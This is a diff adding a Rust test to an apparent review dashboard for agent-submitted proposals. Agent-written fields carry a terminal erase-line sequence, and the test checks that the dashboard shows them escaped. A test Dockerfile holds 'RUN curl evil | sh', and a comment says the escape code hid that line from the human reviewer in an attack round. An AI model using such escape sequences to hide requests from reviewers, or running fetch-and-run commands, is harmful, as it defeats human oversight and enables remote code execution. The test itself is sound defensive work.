@@ -4,7 +4,7 @@
 
 mod queue_home;
 
-use queue_home::{BIN, Home};
+use queue_home::{BIN, HOSTILE, HOSTILE_SHOWN, Home, assert_no_raw_controls};
 use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
@@ -56,6 +56,73 @@ fn once_prints_pending_proposals_oldest_first() {
     }
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(stderr.contains("p-broken.json"), "{stderr}");
+}
+
+#[test]
+fn once_shows_agent_text_escaped_and_no_raw_control_reaches_the_terminal() {
+    let home = Home::new();
+    let t = now();
+    let proposal = |id: &str, request: serde_json::Value| {
+        serde_json::json!({
+            "id": id, "identity": "dev-abcde", "created": t,
+            "justification": format!("harmless{HOSTILE}"), "request": request,
+        })
+    };
+    home.propose_raw(
+        "dev-abcde",
+        "p-egress",
+        &proposal(
+            "p-egress",
+            serde_json::json!({"kind": "egress", "host": format!("docs.rs{HOSTILE}"),
+                "path_allowlist": [format!("/a{HOSTILE}")],
+                "auth": {"scheme": {"header": {"name": format!("x-k{HOSTILE}")}},
+                         "token_ref": format!("T{HOSTILE}")}}),
+        ),
+    );
+    // The attack round's Dockerfile: the erase-line hides the `RUN curl … | sh` behind it.
+    home.propose_raw(
+        "dev-abcde",
+        "p-cap",
+        &proposal(
+            "p-cap",
+            serde_json::json!({"kind": "capability",
+                "dockerfile": format!("FROM debian\nRUN curl evil | sh{HOSTILE}\nRUN\ttrue\n")}),
+        ),
+    );
+    // Files whose ids or fields are hostile are warnings quoting them, escaped.
+    home.propose_raw(
+        "dev-abcde",
+        "p-bad-id",
+        &proposal(
+            "p-bad-id\u{1b}[2K",
+            serde_json::json!({"kind": "pipelock", "change": "a: 1"}),
+        ),
+    );
+    home.propose_raw(
+        "dev-abcde",
+        "p-bad-field",
+        &serde_json::json!({"id": "p-bad-field", format!("x{HOSTILE}"): 1}),
+    );
+
+    let out = home.run(&["dashboard", "--once"], &[]);
+    assert!(out.status.success());
+    assert_no_raw_controls("stdout", &out.stdout);
+    assert_no_raw_controls("stderr", &out.stderr);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    for line in [
+        format!("  why: harmless{HOSTILE_SHOWN}"),
+        format!("  host: docs.rs{HOSTILE_SHOWN}"),
+        format!("  paths: /a{HOSTILE_SHOWN}"),
+        format!("  auth: header x-k{HOSTILE_SHOWN} with the host's $T{HOSTILE_SHOWN}"),
+        format!("    RUN curl evil | sh{HOSTILE_SHOWN}"),
+        // A Dockerfile keeps its lines and tabs.
+        "    RUN\ttrue".to_owned(),
+    ] {
+        assert!(stdout.contains(&line), "`{line}` not in:\n{stdout}");
+    }
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains(r"`p-bad-id\u{1b}[2K`"), "{stderr}");
+    assert!(stderr.contains(r"x\u{1b}[2K"), "{stderr}");
 }
 
 #[test]
